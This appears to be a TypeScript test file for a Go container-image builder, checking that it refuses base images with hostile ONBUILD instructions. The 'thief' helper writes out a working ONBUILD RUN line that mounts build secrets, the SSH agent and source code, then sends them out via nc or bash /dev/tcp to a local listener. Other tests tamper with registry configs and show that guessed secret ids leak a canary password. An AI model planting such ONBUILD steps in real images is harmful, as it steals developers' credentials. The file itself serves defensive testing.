// Base images with instructions of their own (ONBUILD), which want the secrets, the agent and the source of the builds that begin
// with them. Each says what it finds to a listener, and puts it into the image.

import assert from "node:assert/strict";
import * as crypto from "node:crypto";
import * as fs from "node:fs";
import * as net from "node:net";
import type { AddressInfo } from "node:net";
import * as path from "node:path";
import { digestOf } from "../support/digest";
import { helloFiles, inHello, makeTree } from "../support/module";
import { readableBases } from "./support/images/bases";
import { assertNowhere } from "./support/project/canary";
import { builder, engineFields, engines, registry } from "./support/project/environment";
import { buildx, imageOf } from "./support/images/images";
import { Project, run } from "./support/project/project";
import { fetchBlob, fetchManifest, putBlob, putManifest } from "./support/images/registry";

const canary = () => `canary-${crypto.randomBytes(8).toString("hex")}`;
const password = canary();
const inSource = canary();
const service = inHello({
  "go.mod": "module example.com/hello\n\ngo 1.23\n\nrequire example.com/lib v1.0.0\n",
  "go.sum": "",
  "main.go": `package main\n\n// ${inSource}\nfunc main() {}\n`,
});
const netrc = `machine 127.0.0.1 login robot password ${password}`;

/** What came to a port of this machine. */
interface Listener {
  port: number;
  heard: () => string;
  close: () => void;
}

async function listen(): Promise<Listener> {
  let text = "";
  const server = net.createServer((socket) => {
    socket.on("data", (chunk) => (text += chunk.toString("latin1"))).on("error", () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as AddressInfo).port,
    heard: () => text,
    close: () => void server.close(),
  };
}

/** Mounts what is there, under each of the names, and tells it; with the source of the stage `build`. */
const thief = (port: number, ids = ["goimage-netrc", "goimage-netrc-"]) => {
  const mounts = ids.map((id) => `--mount=type=secret,id=${id},target=/stolen/${id}`);
  const found = `{ echo ran; cat /stolen/* /source/main.go; [ -S "$SSH_AUTH_SOCK" ] && echo agent || echo "no agent"; } 2>&1`;
  return (
    `ONBUILD RUN --mount=type=ssh ${mounts.join(" ")} --mount=type=bind,from=build,source=/src,target=/source ` +
    `${found} | tee /loot | (nc 127.0.0.1 ${port} || bash -c "cat > /dev/tcp/127.0.0.1/${port}" || true)`
  );
};
/** The same in a stage that no other comes before. */
const firstThief = (port: number) => thief(port).replace(/--mount=type=bind\S+ /, "");

describe("ONBUILD instructions of base images", function () {
  this.timeout(600_000);
  let listener: Listener;
  let bases: { golang: string; alpine: string };
  before(async () => {
    listener = await listen();
    bases = await readableBases();
  });
  after(() => listener?.close());

  const unique = () => crypto.randomBytes(4).toString("hex");
  const hostileAlpine = () =>
    imageOf(`onbuild-alpine-${unique()}`, `FROM alpine:3.20.3\n${thief(listener.port)}\n`);
  const hostileGolang = () =>
    imageOf(`onbuild-golang-${unique()}`, `FROM golang:1.23\n${firstThief(listener.port)}\n`);

  const program =
    (component: string, build: string, more: string, engine = "buildkit") =>
    (repository: string) => `
const { ${component} } = require("goimage");
const image = new ${component}("hello", {
  source: "hello", repository: "${repository}", ${engineFields(engine)} ${more} build: { ${build} },
});
module.exports = { digest: image.digest };
`;
  const secret = `goProxy: "off", netrc: new (require("@pulumi/pulumi").Config)().requireSecret("netrc"),`;

  /** Neither a preview nor an update builds, and each says why. */
  async function assertRefused(project: Project, ...reasons: RegExp[]): Promise<void> {
    await project.pulumi(["config", "set", "--secret", "netrc", netrc]);
    const preview = await project.pulumi(["preview"]);
    const up = await project.pulumi(["up", "--yes", "--skip-preview"]);
    for (const { code, output } of [preview, up]) {
      assert.notEqual(code, 0, output);
      for (const reason of reasons) assert.match(output, reason);
      assert.match(output, /nothing was built/);
      assert.doesNotMatch(output, /unhandled|at .*\.js:\d+/i);
    }
    assert.equal(listener.heard(), "");
    assert.equal(await fetchManifest(project.repository, "latest"), undefined);
    const settings = project.read("Pulumi.test.yaml");
    assertNowhere({ output: preview.output + up.output, state: await project.state(), settings }, [password]);
  }

  it("in runtime.image are refused before a build with secrets", async () => {
    const image = await hostileAlpine();
    const project = new Project(
      program("GoMultiStageImage", `image: "${bases.golang}", ${secret}`, `runtime: { image: "${image}" },`),
      service,
    );
    await assertRefused(
      project,
      /runtime\.image: \S+onbuild-alpine-\S+ has ONBUILD instructions, which run in every build/,
      /ONBUILD RUN --mount=type=ssh/,
    );
  });

  it("in build.image and runtime.image are refused together", async () => {
    const [golang, alpine] = [await hostileGolang(), await hostileAlpine()];
    const project = new Project(
      program("GoMultiStageImage", `image: "${golang}", ${secret}`, `runtime: { image: "${alpine}" },`),
      service,
    );
    await assertRefused(
      project,
      /2 inputs are not valid/,
      /build\.image: \S+onbuild-golang-/,
      /runtime\.image: \S+onbuild-alpine-/,
    );
  });

  it("in the image of GoSingleStageImage are refused", async () => {
    const image = await hostileGolang();
    const project = new Project(program("GoSingleStageImage", `image: "${image}", ${secret}`, ""), service);
    await assertRefused(project, /build\.image: \S+onbuild-golang-/);
  });

  for (const more of [`packages: ["curl"]`, ""]) {
    it(`in an image that ${more === "" ? "a smoke test" : "apk"} runs in are refused`, async () => {
      const image = await hostileAlpine();
      const tested = more === "" ? "smokeTest: {}," : "";
      const runtime = `${tested} runtime: { image: "${image}", ${more} },`;
      const project = new Project(
        program("GoMultiStageImage", `image: "${bases.golang}", ${secret}`, runtime),
        service,
      );
      await assertRefused(project, /runtime\.image: \S+onbuild-alpine-/);
    });
  }

  for (const engine of engines) {
    it(`are refused in a build without secrets, with engine ${engine}`, async () => {
      const image = await hostileAlpine();
      const project = new Project(
        program("GoMultiStageImage", "", `runtime: { image: "${image}" },`, engine),
        inHello(helloFiles),
      );
      await assertRefused(project, /runtime\.image: \S+onbuild-alpine-/);
    });
  }

  it("are found in every image of an index that the builder may choose, in any spelling", async () => {
    const platforms = ["linux/amd64", "linux/arm64"];
    const scratch = await imageOf(
      `onbuild-index-${unique()}`,
      "FROM scratch\nCOPY a /a\n",
      { a: "a" },
      platforms,
    );
    const repository = scratch.replace(/:latest$/, "");
    const index = JSON.parse((await fetchManifest(repository, "latest"))?.text ?? "") as {
      manifests: { digest: string; size: number; platform: { architecture: string } }[];
    };
    const entry = index.manifests.find(({ platform }) => platform.architecture === "arm64");
    assert.ok(entry);
    const { manifest } = (await fetchManifest(repository, entry.digest)) ?? assert.fail();
    const config = JSON.parse((await fetchBlob(repository, manifest.config.digest)).toString()) as object;
    const hostile = Buffer.from(JSON.stringify({ ...config, CONFIG: { onbuild: ["RUN a"] } }));
    await putBlob(repository, hostile);
    manifest.config = { ...manifest.config, digest: digestOf(hostile), size: hostile.length };
    const text = JSON.stringify(manifest);
    Object.assign(entry, { digest: digestOf(Buffer.from(text)), size: Buffer.byteLength(text) });
    await putManifest(repository, entry.digest, text);
    await putManifest(repository, "latest", JSON.stringify(index));
    const project = new Project(
      program(
        "GoMultiStageImage",
        `image: "${scratch}", ${secret}`,
        `runtime: { image: "${bases.alpine}" },`,
      ),
      service,
    );
    await assertRefused(
      project,
      /build\.image: \S+onbuild-index-\S+ has ONBUILD instructions, .* ONBUILD RUN a/,
    );
  });

  it("are run by BuildKit even when the key is in lower case", async () => {
    const image = await imageOf(`onbuild-small-${unique()}`, "FROM alpine:3.20.3\n");
    const repository = image.replace(/:latest$/, "");
    const { manifest } = (await fetchManifest(repository, "latest")) ?? assert.fail();
    const config = JSON.parse((await fetchBlob(repository, manifest.config.digest)).toString()) as {
      config: object;
    };
    const changed = { ...config, config: { ...config.config, onbuild: ["RUN exit 77"] } };
    const bytes = Buffer.from(JSON.stringify(changed));
    await putBlob(repository, bytes);
    manifest.config = { ...manifest.config, digest: digestOf(bytes), size: bytes.length };
    await putManifest(repository, "latest", JSON.stringify(manifest));
    const built = buildx(
      ["build", `--builder=${builder}`, "--provenance=false", "--output=type=cacheonly", "."],
      makeTree({ Dockerfile: `FROM ${image}\n` }),
    );
    await assert.rejects(built, /exit code: 77/);
  });

  it("are refused when they arrive with a build that the state did not foresee", async () => {
    const image = `${registry}/test/onbuild-late-${unique()}:latest`;
    const clean = await imageOf(path.posix.basename(image, ":latest"), "FROM alpine:3.20.3\n");
    assert.equal(clean, image);
    const text = (more: string) =>
      program("GoMultiStageImage", "", `runtime: { image: "${image}" }, ${more}`);
    const project = new Project(text(""), inHello(helloFiles));
    await project.up();
    const { digest } = (await fetchManifest(project.repository, "latest")) ?? assert.fail();
    // As a version of goimage left it that did not look: with a digest that has instructions.
    const hostile = await hostileAlpine();
    const { text: manifest, digest: bad } =
      (await fetchManifest(hostile.replace(/:latest$/, ""), "latest")) ?? assert.fail();
    const repository = image.replace(/:latest$/, "");
    for (const { digest: blob } of [JSON.parse(manifest) as never].flatMap(
      ({ config, layers }: { config: { digest: string }; layers: { digest: string }[] }) => [
        config,
        ...layers,
      ],
    ))
      await putBlob(repository, await fetchBlob(hostile.replace(/:latest$/, ""), blob));
    await putManifest(repository, "latest", manifest);
    const good = /onbuild-late-\w+:latest@(sha256:\w+)/.exec(await project.state())?.[1];
    assert.ok(good);
    const state = path.join(project.directory, "edited.json");
    const exported = (await project.state()).replaceAll(good, bad);
    assert.match(exported, /"inspectedBases": \{/);
    fs.writeFileSync(state, exported.replace(/"inspectedBases": \{[^}]*\}/, '"inspectedBases": {}'));
    await project.pulumi(["stack", "import", "--file", state]);
    assert.deepEqual(await project.up(), { same: 3 });
    project.write({ "index.js": text('compression: "zstd",')(project.repository) });
    const { code, output } = await project.pulumi(["up", "--yes", "--skip-preview"]);
    assert.notEqual(code, 0);
    assert.match(output, /runtime\.image: \S+onbuild-late-\S+ has ONBUILD instructions/);
    assert.equal(listener.heard(), "");
    assert.equal((await fetchManifest(project.repository, "latest"))?.digest, digest);
  });
});

describe("an unchecked base image", function () {
  this.timeout(600_000);
  let listener: Listener;
  before(async () => {
    listener = await listen();
  });
  after(() => listener?.close());

  it("cannot name the secrets of the build, or the agent", async () => {
    const bases = await readableBases();
    const secret = `goProxy: "off", netrc: "${netrc}", ssh: true, goPrivate: "127.0.0.1/*", sshKnownHosts: "127.0.0.1 ssh-ed25519 AAAA",`;
    const project = new Project(
      (repository) => `
const { GoMultiStageImage } = require("goimage");
const image = new GoMultiStageImage("hello", {
  source: "hello", repository: "${repository}", builder: "${builder}",
  build: { image: "${bases.golang}", ${secret} }, runtime: { image: "${bases.alpine}" },
});
module.exports = { dockerfile: image.dockerfile };
`,
      service,
    );
    const agent = makeTree({});
    const started = await run("ssh-agent", ["-a", path.join(agent, "agent.sock")], ".");
    const pid = Number(/SSH_AGENT_PID=(\d+)/.exec(started.output)?.[1]);
    try {
      const env = { SSH_AUTH_SOCK: path.join(agent, "agent.sock") };
      const { outputs } = await project.preview(env);
      const dockerfile = outputs["dockerfile"] as string;
      // As when the look at the base was passed by, or another image came in its place.
      const hostile = await imageOf(
        `onbuild-bypass-${crypto.randomBytes(4).toString("hex")}`,
        `FROM alpine:3.20.3\n${thief(listener.port)}\n`,
      );
      assert.ok(dockerfile.includes(`FROM ${bases.alpine}@sha256:`));
      const changed = dockerfile
        .replace(/^FROM \S+alpine\S+ AS app$/m, `FROM ${hostile} AS app`)
        // What is compiled plays no part.
        .replace(
          /^RUN --network=none (?:.*\\\n| +#.*\n)*.*$/m,
          "RUN mkdir -p /out/bin && touch /out/bin/main",
        )
        // The step that downloads has them.
        .replace(
          /^(RUN (?:--mount=\S+ (?:\\\n +)?)+)(?:.*\\\n| +#.*\n)*.*$/m,
          "$1test -S $SSH_AUTH_SOCK && cat /root/.netrc >> /found",
        );
      assert.match(changed, /cat \/root\/\.netrc/);
      assert.notEqual(changed, dockerfile);
      const ids = [
        ...new Set([...dockerfile.matchAll(/type=secret,id=([^,\s]+)/g)].map(([, id = ""]) => id)),
      ];
      const agents = [
        ...new Set([...dockerfile.matchAll(/type=ssh,id=([^,\s]+)/g)].map(([, id = ""]) => id)),
      ];
      assert.equal(ids.length, 2, dockerfile);
      assert.equal(agents.length, 1, dockerfile);
      const build = (text: string, secrets: string[], sockets: string[]) =>
        buildx(
          [
            ...["build", `--builder=${builder}`, "--provenance=false", "--no-cache"],
            ...secrets.map((id) => `--secret=id=${id},env=CANARY`),
            ...sockets.map((id) => `--ssh=${id}`),
            ...["--output=type=cacheonly", "."],
          ],
          makeTree({ ...helloFiles, "go.sum": "", Dockerfile: text }),
          { ...env, CANARY: netrc },
        );
      await build(changed, ids, agents);
      // It did run, and told what it found.
      assert.match(listener.heard(), /^ran$/m);
      assert.match(listener.heard(), /^no agent$/m);
      assert.ok(!listener.heard().includes(password), "the secret came to the listener");
      // With the ids of 0.1.0 it finds both, so the search does.
      const suffix = /-[0-9a-f]{32}$/;
      const old = ids.map((id) => id.replace(suffix, ""));
      const guessed = ids.reduce((text, id, n) => text.replaceAll(id, old[n] ?? ""), changed);
      await build(guessed, old, [...agents, "default"]);
      assert.match(listener.heard(), /^agent$/m);
      assert.ok(listener.heard().includes(password));
    } finally {
      if (pid > 0) process.kill(pid);
    }
  });
});
